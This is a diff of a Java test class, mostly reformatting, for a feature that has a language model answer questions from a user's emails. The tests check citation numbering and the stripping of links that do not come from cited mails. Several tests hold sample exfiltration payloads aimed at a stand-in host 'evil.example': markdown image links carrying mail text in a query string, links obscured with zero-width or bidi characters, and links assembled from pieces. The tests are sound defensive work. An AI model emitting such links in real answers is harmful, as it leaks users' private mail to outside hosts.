@@ -113,10 +113,7 @@ class WrittenAnswersTest {
                 "We invite you to an interview in our office in Utrecht [1].",
             })
     void whatTheMailDoesNotSayIsMarked(String sentence) {
-        assertThat(ask(sentence).unsupported())
-                .singleElement()
-                .asString()
-                .startsWith(sentence.substring(0, 3));
+        assertThat(ask(sentence).unsupported()).singleElement().asString().startsWith(sentence.substring(0, 3));
     }
 
     @Test
@@ -139,8 +136,7 @@ class WrittenAnswersTest {
     @Test
     void citationsAreNumberedAsTheyAppearAndInventedOnesDisappear() {
         var written = ask("Deine Bewerbung als Analystin [2][9]. Interview in Utrecht [1, 2] [0] [12345].");
-        assertThat(written.text())
-                .isEqualTo("Deine Bewerbung als Analystin [1]. Interview in Utrecht [2][1] [12345].");
+        assertThat(written.text()).isEqualTo("Deine Bewerbung als Analystin [1]. Interview in Utrecht [2][1] [12345].");
         assertThat(written.cited()).extracting(GivenMail::messageId).containsExactly(72L, 71L);
     }
 
@@ -148,24 +144,29 @@ class WrittenAnswersTest {
     void onlyALinkOfACitedMailStays() {
         assertThat(ask("Confirm at https://acme.example/confirm/8812 [1].").text())
                 .isEqualTo("Confirm at https://acme.example/confirm/8812 [1].");
-        assertThat(ask("Confirm at https://acme.example/confirm/8812 [2].").text()).isEqualTo("Confirm at … [1].");
-        assertThat(ask("Confirm at https://acme.example/confirm/8812?kim=1 [1].").text())
+        assertThat(ask("Confirm at https://acme.example/confirm/8812 [2].").text())
+                .isEqualTo("Confirm at … [1].");
+        assertThat(ask("Confirm at https://acme.example/confirm/8812?kim=1 [1].")
+                        .text())
                 .isEqualTo("Confirm at … [1].");
         assertThat(ask("![x](https://evil.example/?q=Utrecht) [1]").text()).isEqualTo("[x](…) [1]");
     }
 
     @Test
     void whatIsToldIsWhatIsReturned() {
-        var written = ask("See https://evil.example/a [1]. \u202EHidden\u202C\u200B text [5]. Interview [1].\n- one\n- two");
+        var written =
+                ask("See https://evil.example/a [1]. \u202EHidden\u202C\u200B text [5]. Interview [1].\n- one\n- two");
         assertThat(String.join("", told)).isEqualTo(written.text());
         assertThat(written.text()).isEqualTo("See … [1]. Hidden text. Interview [1].\n- one\n- two");
     }
 
     @Test
     void howTheTextWasCutIntoPiecesMakesNoDifference() {
-        var reply = "Your interview is on 3 Dec. 2026 [1]. See http://evil.example/x?y=1 [1][2]. \nIt takes 45 minutes. [1] "
-                + "Deine Bewerbung ist vom 2. November [2]! ![pic](//evil.example/p.png) Ask Dr. Who [3]… end";
-        var whole = answers.write(new FixedModel(reply, 5_000, Optional.empty()), WHEN, MAILS, _ -> {}, Progress.none());
+        var reply =
+                "Your interview is on 3 Dec. 2026 [1]. See http://evil.example/x?y=1 [1][2]. \nIt takes 45 minutes. [1] "
+                        + "Deine Bewerbung ist vom 2. November [2]! ![pic](//evil.example/p.png) Ask Dr. Who [3]… end";
+        var whole =
+                answers.write(new FixedModel(reply, 5_000, Optional.empty()), WHEN, MAILS, _ -> {}, Progress.none());
         for (int piece = 1; piece < 60; piece++) {
             var pieces = new FixedModel(reply, piece, Optional.empty());
             assertThat(answers.write(pieces, WHEN, MAILS, _ -> {}, Progress.none()))
@@ -225,8 +226,7 @@ class WrittenAnswersTest {
         var text = "First paragraph.\n" + "Filler about nothing at all.\n".repeat(2_000)
                 + "The interview with Acme is in room 12.\n" + "More filler here.\n".repeat(500);
         var model = FixedModel.saying("x");
-        answers.write(
-                model, WHEN, List.of(new GivenMail(1, "s", "f", NOW, text)), _ -> {}, Progress.none());
+        answers.write(model, WHEN, List.of(new GivenMail(1, "s", "f", NOW, text)), _ -> {}, Progress.none());
         assertThat(model.prompts().getFirst().material())
                 .contains("First paragraph.", "The interview with Acme is in room 12.");
     }
@@ -234,10 +234,12 @@ class WrittenAnswersTest {
     @Test
     void aLinkCannotBePutTogetherFromPieces() {
         for (int padding = 1_480; padding < 1_510; padding++) {
-            assertThat(ask("x".repeat(padding) + ".evil.example/?q=Utrecht end [1]").text())
+            assertThat(ask("x".repeat(padding) + ".evil.example/?q=Utrecht end [1]")
+                            .text())
                     .doesNotContain("evil.example");
         }
-        assertThat(ask("See evil[99].example/?q=Utrecht, evil.[99]EXAMPLE/?q=1 or evil.\u200BEXAMPLE/?q=2 [1]").text())
+        assertThat(ask("See evil[99].example/?q=Utrecht, evil.[99]EXAMPLE/?q=1 or evil.\u200BEXAMPLE/?q=2 [1]")
+                        .text())
                 .isEqualTo("See …, … or … [1]");
     }
 
@@ -245,7 +247,8 @@ class WrittenAnswersTest {
     void aLongAnswerFromLongMailsIsComparedQuickly() {
         var mail = new GivenMail(1, "s", "f", NOW, "The interview with number seventeen is on a day. ".repeat(2_000));
         var mails = IntStream.range(0, 8).mapToObj(_ -> mail).toList();
-        var model = new FixedModel("Seventeen interviews here [1][2][3][4][5][6][7][8]. ".repeat(380), 900, Optional.empty());
+        var model = new FixedModel(
+                "Seventeen interviews here [1][2][3][4][5][6][7][8]. ".repeat(380), 900, Optional.empty());
         var start = System.nanoTime();
         answers.write(model, WHEN, mails, _ -> {}, Progress.none());
         assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(10));
